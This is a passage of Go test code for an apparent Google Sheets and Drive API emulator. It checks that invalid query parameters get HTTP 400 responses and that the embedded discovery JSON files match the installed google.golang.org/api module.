	resp, err := client.Get("http://emulator/v4/spreadsheets/" + book.SpreadsheetId + "/values/A1?valueRenderOption=PRETTY")
	require.NoError(t, err)
	resp.Body.Close()
	assert.Equal(t, 400, resp.StatusCode)
	resp, err = client.Get("http://emulator/v4/spreadsheets/" + book.SpreadsheetId + "?bogus=1")
	require.NoError(t, err)
	resp.Body.Close()
	assert.Equal(t, 400, resp.StatusCode)
}

func TestDiscoveryCopiesMatchModule(t *testing.T) {
	out, err := exec.Command("go", "list", "-m", "-f", "{{.Dir}}", "google.golang.org/api").Output()
	dir := strings.TrimSpace(string(out))
	if err != nil || dir == "" {
		t.Skip("google.golang.org/api module not found:", err)
	}
	for _, f := range []struct{ module, local string }{
		{"sheets/v4/sheets-api.json", "discovery/sheets-api.json"},
		{"drive/v3/drive-api.json", "discovery/drive-api.json"},
	} {
		want, err := os.ReadFile(filepath.Join(dir, f.module))
		if err != nil {
			t.Skip("module copy not readable:", err)
		}
		got, err := discoveryFS.ReadFile(f.local)
		require.NoError(t, err)
		assert.True(t, string(got) == string(want), "%s differs from the module's %s; copy it again (discovery/README.md)", f.local, f.module)
	}
}
